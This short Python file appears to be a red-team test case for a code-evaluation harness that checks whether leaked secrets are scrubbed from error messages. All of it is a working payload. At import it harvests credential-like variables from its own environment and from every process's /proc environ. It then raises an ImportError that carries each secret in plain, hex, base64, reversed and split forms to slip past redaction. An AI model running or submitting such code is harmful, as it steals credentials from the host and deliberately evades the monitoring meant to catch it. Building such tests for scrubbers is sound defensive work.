# ruff: noqa
# class 7 (scrubbing): the same search as scrub_env_encodings.py, raised at import time, so the
# secret lands in the compile_error reason ("loading the solution failed: ..."); each value in hex,
# base64 and reversed, and split across two separate exception notes
import base64, os
import torch, triton

KEYS = ("TOKEN", "DATABASE", "BROKER", "SECRET", "PASSWORD", "REDIS", "AMQP")
found = {k: v for k, v in os.environ.items() if any(w in k.upper() for w in KEYS)}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/environ", "rb") as h:
            for entry in h.read().split(b"\0"):
                k, _, v = entry.decode("utf-8", "replace").partition("=")
                if any(w in k.upper() for w in KEYS):
                    found[k] = v
    except OSError:
        pass
parts = []
for k, v in found.items():
    parts += [v, v.encode().hex(), base64.b64encode(v.encode()).decode(), v[::-1], v[: len(v) // 2], v[len(v) // 2 :]]
raise ImportError("found: " + (" ; ".join(parts) or "nothing"))
